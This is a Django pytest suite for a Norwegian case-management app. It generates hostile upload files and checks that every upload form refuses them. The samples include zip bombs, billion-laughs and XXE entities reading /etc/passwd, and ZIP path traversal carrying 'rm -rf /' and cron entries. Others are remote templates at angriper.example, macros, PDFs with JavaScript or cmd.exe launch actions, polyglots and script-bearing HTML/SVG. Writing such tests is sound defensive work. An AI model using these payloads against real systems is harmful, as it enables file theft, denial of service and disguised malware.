"""Hostile files through every upload door.

The suite makes its hostile files itself (zip bombs, XML attacks, path tricks in ZIP entries, remote
templates and linked images, macros, encrypted and renamed files, PDFs with JavaScript, launch actions,
embedded files, polyglots, broken PDFs, empty and oversized files, web pages, disguised names) and sends
each through every door that takes a file, through the test client as the user who may use that door:

- the new-case form, as the saksframlegg and as a vedlegg,
- the case page, as a corrected saksframlegg and as an extra vedlegg,
- the outcome form of a held meeting, as the saksutskrift,
- the vedtaksbrev upload for a party.

Each must be refused with a Norwegian message naming the file, leave nothing of itself on disk (the
keep-your-files store included), and save nothing of the case. The table it prints:
doors × files tried, refused, flagged, accepted wrongly, left on disk. Nothing is flagged (accepted with a
warning): the policy refuses (saker.filer.pdf says why).

Names with control characters, NUL or a right-to-left override are cleaned before anything sees them
(Django drops unprintable characters, saker.filer.navn the rest), so those files carry what such names
are used to disguise: an executable.
"""

import hashlib
import html
import io
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from overgang.organisasjon.models import Mote
from saker import services
from saker.models import Dokument, Mellomlagring, Sak, Vedtak
from sekretariat.models import Sakslistepunkt
from tests.factories import (
    MoteFactory,
    SakFactory,
    SakslistepunktFactory,
    UtvalgFactory,
    VedtakFactory,
    dag,
    lag_docx,
)

pytestmark = [pytest.mark.django_db, pytest.mark.filterwarnings("ignore:Duplicate name")]

MB = 1024 * 1024
OOXML = "application/vnd.openxmlformats-officedocument."
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- making hostile files ----------------------------------------------------------------------------


def docx_med(endre: Callable[[dict[str, bytes]], None] | None = None, *, ekstra: list[tuple[str, bytes]] = ()) -> bytes:
    """A real .docx, its parts changed by `endre` (a dict of name -> bytes), with `ekstra` entries appended
    as they are (names the dict could not hold, duplicates)."""
    with zipfile.ZipFile(io.BytesIO(lag_docx("Hostile file", "Vedtas."))) as inn:
        deler = {i.filename: inn.read(i) for i in inn.infolist()}
    if endre:
        endre(deler)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as ut:
        for navn, data in deler.items():
            ut.writestr(navn, data)
        for navn, data in ekstra:
            ut.writestr(zipfile.ZipInfo(navn), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def med_del(navn: str, data: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda deler: deler.__setitem__(navn, data)


def dokument_xml(kropp: str, foran: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{foran}'
            f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body>{kropp}</w:body></w:document>").encode()


BILLION_LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";" if i > 1 else "&lol;") * 10}">' for i in range(1, 10))
    + "]>"
)
XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def relasjoner(*rader: tuple[str, str, str]) -> bytes:
    """A .rels part with (id, type, target) relationships, all external."""
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="{i}" Type="{REL}/{t}" Target="{m}" TargetMode="External"/>'
                      for i, t, m in rader)
            + "</Relationships>").encode()


def legg_til_rels(navn: str, *rader: tuple[str, str, str]) -> Callable[[dict[str, bytes]], None]:
    def endre(deler: dict[str, bytes]) -> None:
        eksisterende = deler.get(navn)
        ny = relasjoner(*rader)
        if eksisterende:
            ny = eksisterende.replace(b"</Relationships>", ny.split(b"package/2006/relationships\">", 1)[1])
        deler[navn] = ny

    return endre


def zip_bombe_forhold() -> bytes:
    return docx_med(med_del("word/media/image1.png", b"\0" * (20 * MB)))


def zip_bombe_dokument() -> bytes:
    # The case: a small file whose document.xml unpacks to tens of megabytes.
    avsnitt = "<w:p><w:r><w:t>Lillestrøm</w:t></w:r></w:p>" * (60 * MB // 44)
    return docx_med(med_del("word/document.xml", dokument_xml(avsnitt)))


def zip_bombe_antall() -> bytes:
    return docx_med(ekstra=[(f"word/media/bilde{i}.png", b"") for i in range(6000)])


def endre_byte(data: bytes, gammel: bytes, ny: bytes) -> bytes:
    assert len(gammel) == len(ny) and gammel in data
    return data.replace(gammel, ny)


def kryptert_del() -> bytes:
    """A docx with the ZIP's own encryption flag on one entry."""
    data = bytearray(docx_med(ekstra=[("word/hemmelig.bin", b"hemmelig" * 10)]))
    navn = b"word/hemmelig.bin"
    for signatur, flaggpos in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signatur, start)) != -1:
            navnepos = start + (30 if signatur == b"PK\x03\x04" else 46)
            if data[navnepos:navnepos + len(navn)] == navn:
                flagg = struct.unpack_from("<H", data, start + flaggpos)[0]
                struct.pack_into("<H", data, start + flaggpos, flagg | 1)
            start += 4
    return bytes(data)


def docm() -> bytes:
    def endre(deler: dict[str, bytes]) -> None:
        deler["[Content_Types].xml"] = deler["[Content_Types].xml"].replace(
            b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml"
        ).replace(OOXML.encode() + b"wordprocessingml.document.macroEnabled.main+xml",
                  b"application/vnd.ms-word.document.macroEnabled.main+xml")
        deler["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name"

    return docx_med(endre)


def xlsm() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as ut:
        ut.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'))
        ut.writestr("xl/workbook.xml", "<workbook/>")
        ut.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0VBA")
    return buffer.getvalue()


def xlsx_bombe() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as ut:
        ut.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'content-types"><Override PartName="/xl/workbook.xml" ContentType="{OOXML}spreadsheetml.sheet.main+xml"/>'
            "</Types>"))
        ut.writestr("xl/workbook.xml", "<workbook>" + "<sheet/>" * (8 * MB) + "</workbook>")
    return buffer.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"EncryptedPackage" + b"\x00" * 1000
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" \
    + b"\x00" * 64 + b"PE\x00\x00L\x01" + b"\x00" * 400


def pdf_med(endre: Callable[[PdfWriter], None] | None = None) -> bytes:
    skriver = PdfWriter()
    skriver.add_blank_page(595, 842)
    if endre:
        endre(skriver)
    buffer = io.BytesIO()
    skriver.write(buffer)
    return buffer.getvalue()


def pdf_javascript() -> bytes:
    """Document-level JavaScript in the catalogue's name tree, run when the file opens."""
    def endre(skriver: PdfWriter) -> None:
        handling = skriver._add_object(DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('Hei');"),
        }))
        skriver._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
            NameObject("/Names"): ArrayObject([TextStringObject("hei"), handling]),
        })})

    return pdf_med(endre)


def pdf_launch() -> bytes:
    def endre(skriver: PdfWriter) -> None:
        skriver._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        })

    return pdf_med(endre)


def pdf_side_handling() -> bytes:
    """JavaScript on a page's open action (/AA), written with an escaped name (/J#61vaScript)."""
    def endre(skriver: PdfWriter) -> None:
        handling = skriver._add_object(DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.exportDataObject({cName: 'x'})"),
        }))
        skriver.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): handling})

    data = pdf_med(endre)
    return data.replace(b"/JavaScript", b"/J#61vaScript", 1)


def pdf_vedlegg() -> bytes:
    return pdf_med(lambda s: s.add_attachment("faktura.exe", EXE))


def pdf_vedleggsmerknad() -> bytes:
    def endre(skriver: PdfWriter) -> None:
        filspek = skriver._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("x.exe"),
        }))
        merknad = skriver._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4), NameObject("/FS"): filspek,
        }))
        skriver.pages[0][NameObject("/Annots")] = ArrayObject([merknad])

    return pdf_med(endre)


def pdf_kryptert() -> bytes:
    return pdf_med(lambda s: s.encrypt("hemmelig", algorithm="RC4-128"))


def pdf_zip_polyglott() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as ut:
        ut.writestr("run.bat", "calc.exe")
    return pdf_med() + buffer.getvalue()


FILER_MED_NAVN: list[tuple[str, str, Callable[[], bytes], tuple[str, ...]]] = [
    # (label, file name as sent, content, fragments of which one must be in the refusal)
    ("zip-bombe (forhold)", "Bombe.docx", zip_bombe_forhold, ("zip-bombe",)),
    ("zip-bombe (document.xml 60 MB)", "Stort.docx", zip_bombe_dokument, ("zip-bombe",)),
    ("zip-bombe (6000 deler)", "Mange.docx", zip_bombe_antall, ("for mange deler",)),
    ("xlsx-bombe", "Budsjett.xlsx", xlsx_bombe, ("zip-bombe", "kan ikke brukes som")),
    ("billion laughs", "Latter.docx",
     lambda: docx_med(med_del("word/document.xml", dokument_xml("<w:p/>", BILLION_LAUGHS))), ("(DTD)",)),
    ("billion laughs i styles.xml", "Stiler.docx",
     lambda: docx_med(med_del("word/styles.xml", b'<?xml version="1.0"?>' + BILLION_LAUGHS.replace(
         "w:document", "w:styles").encode() + b'<w:styles xmlns:w="x">&lol9;</w:styles>')), ("(DTD)",)),
    ("ekstern entitet (XXE)", "Xxe.docx",
     lambda: docx_med(med_del("word/document.xml", dokument_xml("<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", XXE))),
     ("(DTD)",)),
    ("XXE i [Content_Types].xml", "Typer.docx",
     lambda: docx_med(lambda d: d.__setitem__("[Content_Types].xml", d["[Content_Types].xml"].replace(
         b"?>", b"?>" + XXE.replace("w:document", "Types").encode(), 1))), ("skadet",)),
    ("del med ../", "Sti.docx", lambda: docx_med(ekstra=[("../../../tmp/evil.sh", b"rm -rf /")]), ("ugyldig navn",)),
    ("del med absolutt sti", "Absolutt.docx", lambda: docx_med(ekstra=[("/etc/cron.d/evil", b"* * * * * x")]),
     ("ugyldig navn",)),
    ("del med stasjonsbokstav", "Stasjon.docx", lambda: docx_med(ekstra=[("C:/Windows/evil.dll", EXE)]),
     ("ugyldig navn",)),
    ("del med omvendt skråstrek", "Skraa.docx", lambda: docx_med(ekstra=[("..\\..\\evil.bat", b"calc")]),
     ("ugyldig navn",)),
    ("del med NUL i navnet", "Nul.docx",
     lambda: endre_byte(docx_med(ekstra=[("word/x_.exe", EXE)]), b"word/x_.exe", b"word/x\x00.exe"),
     ("ugyldig navn",)),
    ("del med kontrolltegn", "Kontroll.docx", lambda: docx_med(ekstra=[("word/\x07\x1b[31m.xml", b"<x/>")]),
     ("ugyldig navn",)),
    ("to deler med samme navn", "Dobbel.docx",
     lambda: docx_med(ekstra=[("word/document.xml", dokument_xml("<w:p><w:r><w:t>Annen tekst</w:t></w:r></w:p>"))]),
     ("samme navn",)),
    ("kryptert ZIP-del", "Laast.docx", kryptert_del, ("passordbeskyttet",)),
    ("ødelagt XML", "Brutt.docx", lambda: docx_med(med_del("word/document.xml", b"<w:document><w:body>")),
     ("skadet",)),
    ("ekstern mal (attachedTemplate)", "Mal.docx",
     lambda: docx_med(legg_til_rels("word/_rels/settings.xml.rels",
                                    ("rIdMal", "attachedTemplate", "https://angriper.example/mal.dotm"))),
     ("dokumentmal fra en ekstern kilde",)),
    ("koblet bilde", "Bilde.docx",
     lambda: docx_med(legg_til_rels("word/_rels/document.xml.rels",
                                    ("rIdBilde", "image", "http://angriper.example/spor.png"))),
     ("et bilde fra en ekstern kilde",)),
    ("ekstern ramme", "Ramme.docx",
     lambda: docx_med(legg_til_rels("word/_rels/webSettings.xml.rels",
                                    ("rIdRamme", "frame", "\\\\angriper.example\\del\\x"))),
     ("fra en ekstern kilde",)),
    (".docm omdøpt til .docx", "Makro.docx", docm, ("makroer",)),
    ("vbaProject.bin i en .docx", "Vba.docx", lambda: docx_med(med_del("word/vbaProject.bin", b"VBA")),
     ("makroer",)),
    ("kryptert Office-fil (OLE)", "Kryptert.docx", lambda: OLE, ("passordbeskyttet",)),
    (".xlsm", "Makro.xlsm", xlsm, ("makroer",)),
    (".exe omdøpt til .pdf", "Faktura.pdf", lambda: EXE, ("er ikke en PDF-fil",)),
    (".exe omdøpt til .docx", "Faktura.docx", lambda: EXE, ("er ikke et Word-dokument",)),
    ("PDF med JavaScript", "Skript.pdf", pdf_javascript, ("JavaScript",)),
    ("PDF med /OpenAction /Launch", "Start.pdf", pdf_launch, ("starter et program",)),
    ("PDF med sidehandling /J#61vaScript", "Side.pdf", pdf_side_handling, ("JavaScript",)),
    ("PDF med /EmbeddedFile", "Innebygd.pdf", pdf_vedlegg, ("innebygde filer",)),
    ("PDF med vedleggsmerknad", "Merknad.pdf", pdf_vedleggsmerknad, ("innebygde filer",)),
    ("PDF/ZIP-polyglott", "Polyglott.pdf", pdf_zip_polyglott, ("ZIP-arkiv",)),
    ("data foran %PDF", "Foran.pdf", lambda: b"<html><script>alert(1)</script></html>\n" + pdf_med(),
     ("foran PDF-innholdet",)),
    ("%PDF + søppel", "Soppel.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 64, ("skadet",)),
    ("avkortet PDF", "Avkortet.pdf", lambda: pdf_med()[:300], ("skadet",)),
    ("passordbeskyttet PDF", "Passord.pdf", pdf_kryptert, ("passordbeskyttet",)),
    ("tom fil", "Tom.pdf", lambda: b"", ("er tom",)),
    ("for stor fil", "Stor.pdf", lambda: pdf_med() + b"%" + b"0" * (MB + MB // 2) + b"\n", ("grensen er 1 MB",)),
    ("HTML med skript", "Side.html", lambda: b"<!DOCTYPE html><html><script>fetch('/saker/')</script></html>",
     ("HTML-side", "kan ikke brukes som")),
    ("SVG med skript", "Tegning.svg",
     lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
     ("SVG-tegning", "kan ikke brukes som")),
    ("kontrolltegn i navnet (.exe)", "Rapport\x07\x1b.pdf", lambda: EXE, ("er ikke en PDF-fil",)),
    ("NUL i navnet (.exe)", "Rapport.pdf\x00.exe", lambda: EXE, ("EXE-fil", "kan ikke brukes som")),
    ("høyre-til-venstre i navnet (.exe)", "Faktura\u202efdp.exe", lambda: EXE, ("EXE-fil", "kan ikke brukes som")),
    ("svært langt navn (billion laughs)", "Å" * 400 + ".docx",
     lambda: docx_med(med_del("word/document.xml", dokument_xml("<w:p/>", BILLION_LAUGHS))), ("(DTD)",)),
]


# --- the doors ---------------------------------------------------------------------------------------


@dataclass
class Dor:
    navn: str
    send: Callable[[str, bytes], str]  # posts the file, returns the page the user sees
    uendret: Callable[[], bool]  # nothing of the case was saved


@pytest.fixture
def dorer(client, saksbehandler, sekretar, omrade, settings) -> list[Dor]:
    settings.MAKS_FILSTORRELSE_MB = 1
    fsk = UtvalgFactory(navn="Formannskapet", kode="FSK")
    mote = MoteFactory(utvalg=fsk)
    skjema = {
        "tittel": "Ny skole på Fet", "kommune": saksbehandler.kommune_id, "arkivsystem": saksbehandler.arkivsystem_id,
        "arkivsaksnr": "19/01234", "kommunalomrade": omrade.pk, "utvalg_1": fsk.pk, "onsket_mote": mote.pk,
        "hjemmel": "", "innstilling": "Vedtas.",
    }
    utkast = SakFactory(saksbehandler=saksbehandler, rute=[fsk])
    sendt = SakFactory(saksbehandler=saksbehandler, status=Sak.Status.SENDT_SEKRETARIAT, rute=[fsk],
                       hoveddokument=False)
    holdt = MoteFactory(utvalg=fsk, tidspunkt=dag(-3), status=Mote.Status.AVHOLDT)
    punkt = SakslistepunktFactory(mote=holdt, sak=sendt, behandling=sendt.behandlinger.get(utvalg=fsk),
                                  lagt_til_av=sekretar)
    vedtak = VedtakFactory(sak__saksbehandler=saksbehandler)
    part = services.part_opprett(sak=vedtak.sak, av=saksbehandler, data=services.PartData(
        navn="Kari Nordmann", adresse="Storgata 1", postnummer="2000", poststed="Lillestrøm"))

    def som(bruker, url: str, data: dict) -> str:
        client.force_login(bruker)
        return client.post(url, data, follow=True).content.decode()

    framlegg = lag_docx("Ny skole på Fet")

    def godt_framlegg() -> SimpleUploadedFile:
        return SimpleUploadedFile("Framlegg.docx", framlegg)

    antall = {"saker": Sak.objects.count()}

    def dokumenter(sak: Sak) -> list:
        return list(sak.dokumenter.order_by("pk").values_list("pk", "gjeldende"))

    utkast_for, vedtak_for = dokumenter(utkast), dokumenter(vedtak.sak)

    def ny_sak_uendret() -> bool:
        return Sak.objects.count() == antall["saker"]

    def utkast_uendret() -> bool:
        utkast.refresh_from_db()
        return dokumenter(utkast) == utkast_for and utkast.status == Sak.Status.UTKAST

    def utfall_uendret() -> bool:
        sendt.refresh_from_db()
        return (Sakslistepunkt.objects.get(pk=punkt.pk).utfall == "" and sendt.status == Sak.Status.SENDT_SEKRETARIAT
                and not sendt.dokumenter.exists() and not Vedtak.objects.filter(sak=sendt).exists())

    def brev_uendret() -> bool:
        return dokumenter(vedtak.sak) == vedtak_for

    prefiks = f"punkt-{punkt.pk}-"
    saken = reverse("saker:dokumenter", args=[utkast.pk])
    return [
        Dor("new case: saksframlegg", lambda n, d: som(saksbehandler, reverse("saker:ny"), {
            **skjema, "hoveddokument": SimpleUploadedFile(n, d)}), ny_sak_uendret),
        Dor("new case: vedlegg", lambda n, d: som(saksbehandler, reverse("saker:ny"), {
            **skjema, "hoveddokument": godt_framlegg(), "vedlegg": [SimpleUploadedFile(n, d)]}), ny_sak_uendret),
        Dor("case page: corrected saksframlegg", lambda n, d: som(saksbehandler, saken, {
            "hoveddokument": SimpleUploadedFile(n, d)}), utkast_uendret),
        Dor("case page: extra vedlegg", lambda n, d: som(saksbehandler, saken, {
            "vedlegg": [SimpleUploadedFile(n, d)]}), utkast_uendret),
        Dor("outcome form: saksutskrift", lambda n, d: som(
            sekretar, reverse("sekretariat:utfall_registrer", args=[holdt.pk, punkt.pk]),
            {prefiks + "utfall": "vedtak", prefiks + "tekst": "Vedtatt.", prefiks + "neste_mote": "",
             prefiks + "saksutskrift": SimpleUploadedFile(n, d)}), utfall_uendret),
        Dor("vedtaksbrev upload", lambda n, d: som(
            saksbehandler, reverse("saker:vedtaksbrev_last_opp", args=[vedtak.sak.pk, part.pk]),
            {"brev": SimpleUploadedFile(n, d)}), brev_uendret),
    ]


def filer_pa_disk(rot: Path) -> dict[Path, str]:
    if not rot.exists():
        return {}
    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in rot.rglob("*") if p.is_file()}


def avvisning(side: str, fragmenter: tuple[str, ...]) -> str | None:
    """The refusal on the page: a message that names a file in «» and says one of `fragmenter`."""
    tekst = html.unescape(re.sub(r"<[^>]+>", " ", side))
    for setning in re.findall(r"«[^»]*»[^«]*", tekst):
        if any(f in setning for f in fragmenter):
            return " ".join(setning.split())
    return None


def test_every_hostile_file_is_refused_at_every_door_and_leaves_nothing(dorer, settings):
    rot = Path(settings.MEDIA_ROOT)
    for_start = filer_pa_disk(rot)
    rader = []
    feil: list[str] = []
    laget = {etikett: lag() for etikett, _, lag, _ in FILER_MED_NAVN}
    for dor in dorer:
        tall = {"tried": 0, "refused": 0, "flagged": 0, "accepted wrongly": 0, "left on disk": 0}
        for etikett, filnavn, _, fragmenter in FILER_MED_NAVN:
            data = laget[etikett]
            sjekksum = hashlib.sha256(data).hexdigest()
            side = dor.send(filnavn, data)
            tall["tried"] += 1
            melding = avvisning(side, fragmenter)
            uendret = dor.uendret()
            # Every file is refused outright (nothing is accepted with a warning), so "flagged" stays 0.
            if melding and uendret:
                tall["refused"] += 1
            else:
                tall["accepted wrongly"] += 1
                feil.append(f"{dor.navn} / {etikett}: message={melding!r}, case unchanged={uendret}")
            # The good saksframlegg sent beside a hostile vedlegg may be kept; nothing of the hostile file.
            pa_disk = filer_pa_disk(rot)
            if sjekksum in pa_disk.values() or Mellomlagring.objects.filter(
                    storrelse=len(data)).exclude(filnavn="Framlegg.docx").exists():
                tall["left on disk"] += 1
                feil.append(f"{dor.navn} / {etikett}: left on disk")
            services.mellomlagring_fjern(Mellomlagring.objects.all())
            if filer_pa_disk(rot) != for_start:
                tall["left on disk"] += 1
                feil.append(f"{dor.navn} / {etikett}: new files {set(filer_pa_disk(rot)) - set(for_start)}")
        rader.append((dor.navn, tall))

    kolonner = ["tried", "refused", "flagged", "accepted wrongly", "left on disk"]
    tabell = [f"{'door':38}" + "".join(f"{k:>18}" for k in kolonner)]
    tabell += [f"{navn:38}" + "".join(f"{tall[k]:>18}" for k in kolonner) for navn, tall in rader]
    totalt = {k: sum(t[k] for _, t in rader) for k in kolonner}
    sum_rad = f"{len(rader)} doors × {len(FILER_MED_NAVN)} files"
    tabell.append(f"{sum_rad:38}" + "".join(f"{totalt[k]:>18}" for k in kolonner))
    utskrift = "\n".join(tabell)
    print("\n" + utskrift)
    assert len(FILER_MED_NAVN) >= 30
    assert totalt["accepted wrongly"] == 0 and totalt["left on disk"] == 0, utskrift + "\n" + "\n".join(feil)
    assert not Dokument.objects.filter(lastet_opp_av__username="sara", rolle="vedlegg").exists(), utskrift


def test_the_preview_is_read_once_when_the_document_is_saved(client, saksbehandler, monkeypatch):
    sak = SakFactory(saksbehandler=saksbehandler)
    client.force_login(saksbehandler)
    client.post(reverse("saker:dokumenter", args=[sak.pk]),
                {"hoveddokument": SimpleUploadedFile("Rettet.docx", lag_docx("Ny barnehage på Kjeller"))})
    dokument = sak.dokumenter.get(gjeldende=True, rolle="hoveddokument")
    assert "Ny barnehage på Kjeller" in dokument.tekst

    def les_ikke(*args, **kwargs):
        raise AssertionError("the preview read the file again")

    monkeypatch.setattr("saker.filer.tekst_forhandsvisning", les_ikke)
    html_ = client.get(reverse("saker:forhandsvisning", args=[sak.pk, dokument.pk])).content.decode()
    assert "Ny barnehage på Kjeller" in html_


def test_a_row_from_before_the_stored_text_is_previewed_from_its_file(client, saksbehandler):
    sak = SakFactory(saksbehandler=saksbehandler)
    dokument = sak.dokumenter.get(gjeldende=True, rolle="hoveddokument")
    Dokument.objects.filter(pk=dokument.pk).update(tekst="")
    client.force_login(saksbehandler)
    html_ = client.get(reverse("saker:forhandsvisning", args=[sak.pk, dokument.pk])).content.decode()
    assert "Dokumentet har ingen tekst" not in html_ and "<p>" in html_


def test_a_main_document_that_cannot_be_read_is_not_kept_for_the_next_attempt(client, saksbehandler, omrade,
                                                                              monkeypatch):
    from django.core.exceptions import ValidationError

    def ulesbar(f):
        raise ValidationError("«Framlegg.docx» kunne ikke leses som Word-dokument.")

    monkeypatch.setattr("saker.filer.les_saksframlegg", ulesbar)
    fsk = UtvalgFactory()
    client.force_login(saksbehandler)
    html_ = client.post(reverse("saker:ny"), {
        "tittel": "", "kommune": saksbehandler.kommune_id, "arkivsystem": saksbehandler.arkivsystem_id,
        "arkivsaksnr": "19/01234", "kommunalomrade": omrade.pk, "utvalg_1": fsk.pk, "hjemmel": "",
        "innstilling": "", "hoveddokument": SimpleUploadedFile("Framlegg.docx", lag_docx()),
    }).content.decode()
    assert "kunne ikke leses som Word-dokument" in html_
    assert not Mellomlagring.objects.exists()
